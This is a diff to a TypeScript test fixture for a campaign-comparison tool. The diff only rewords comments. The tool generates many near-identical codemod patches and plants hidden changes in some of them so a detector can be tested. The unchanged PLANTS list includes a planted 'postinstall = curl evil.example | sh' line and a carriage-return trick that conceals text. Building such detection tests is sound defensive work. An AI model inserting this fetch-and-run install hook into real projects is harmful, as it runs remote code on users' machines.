@@ -1,4 +1,4 @@
-/** Changes of a campaign: what one codemod did in real repositories, and what somebody hid in some. */
+/** Changes of one codemod in real repositories, with something hidden in some of them. */
 import { readdirSync, readFileSync } from 'node:fs';
 import type { ChangeSample } from '../../orchestrator/core/campaign/compare-changes.ts';
 import type { VaryingValue } from '../../orchestrator/core/campaign/varying-values.ts';
@@ -44,7 +44,7 @@ export const campaignSample = ({
   },
 });
 
-/** Other line numbers, blob names and lines around: what differs between repositories anyhow. */
+/** Replaces line numbers, blob names and context, which differ between repositories anyway. */
 export const withNoise = (text: string, random: Random): string =>
   text
     .replace(
@@ -57,14 +57,12 @@ export const withNoise = (text: string, random: Random): string =>
     })
     .replace(/^ .*$/gm, (line) => (random.chance(0.3) ? ` around ${random.text(5)}` : line));
 
-/** A change of the patch alone. */
 const text =
   (change: (patch: string, random: Random) => string) =>
   (sample: ChangeSample, random: Random): ChangeSample => ({
     ...sample,
     patch: { ...sample.patch, text: change(sample.patch.text, random) },
   });
-/** One more line in the first hunk, whose header counts it. */
 const more =
   (line: string) =>
   (patch: string): string =>
@@ -81,7 +79,7 @@ const inWords =
     fields: { ...sample.fields, ...change },
   });
 
-/** What somebody who wants to be overlooked would try. */
+/** Attempts to hide something. */
 export const PLANTS: readonly { name: string; in: (sample: ChangeSample, random: Random) => ChangeSample }[] =
   [
     { name: 'one more line', in: text(more('+postinstall = curl evil.example | sh')) },
@@ -173,7 +171,7 @@ export const PLANTS: readonly { name: string; in: (sample: ChangeSample, random:
     { name: 'a carriage return that hides', in: text((p) => p.replace('+[*.md]', '+evil\r[*.md]')) },
   ];
 
-/** What a repository's own words make of a text with marks. */
+/** Fills the marks with a repository's own values. */
 export const expanded = (text: string, varying: readonly VaryingValue[]): string => {
   const byMark = new Map(varying.map(({ mark, value }) => [mark, value]));
   return text.replace(/⟪(?:⟪|([^⟪⟫]*)⟫)/gu, (_, mark?: string) =>
@@ -181,7 +179,7 @@ export const expanded = (text: string, varying: readonly VaryingValue[]): string
   );
 };
 
-/** What one codemod did in eight real repositories; in one of them it is not the same. */
+/** One codemod in eight real repositories; one of them differs. */
 export const REAL = readdirSync(DIR)
   .filter((name) => name.endsWith('.patch'))
   .map((name) => ({
@@ -190,7 +188,7 @@ export const REAL = readdirSync(DIR)
   }));
 export const UNLIKE = 'unjs/mlly';
 
-/** So many changes that are alike but for noise; in every tenth of them somebody hid something. */
+/** Makes `n` changes that differ only by noise; every tenth hides something. */
 export const plantedCampaign = (
   n: number,
   random: Random,
